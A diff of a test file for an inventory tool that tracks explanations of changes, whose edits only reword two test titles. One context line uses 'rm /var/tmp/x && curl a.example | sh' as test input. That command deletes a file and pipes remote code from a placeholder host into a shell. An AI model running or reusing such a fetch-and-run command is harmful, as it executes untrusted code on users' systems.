@@ -5,7 +5,7 @@ import { readDraft, writeDraft } from '../../../helpers/inventory/draft.js';
 import { explain } from '../../../helpers/inventory/explain.js';
 import { addExplanation, oneByOne, readExplanations } from '../../../helpers/inventory/own-explanations.js';
 
-test('an explanation is added to the list, and one about the same things is replaced', ({}, info) => {
+test('an explanation is added to the list and replaces one about the same things', ({}, info) => {
   const file = info.outputPath('explanations.json');
 
   addExplanation(file, { what: 'packages/package foo', why: 'replaced by bar', who: 'jsfan' });
@@ -34,7 +34,7 @@ test('the accepted part of a draft explains the differences it was made from, an
   expect(unexplained('job of root: rm /var/tmp/x && curl a.example | sh', 'missing')).toBe(1);
 });
 
-test('the command prints its usage, and refuses an unknown gate', async () => {
+test('the command prints its usage and refuses an unknown gate', async () => {
   const said: string[] = [];
   const say = (line: string) => void said.push(line);
 
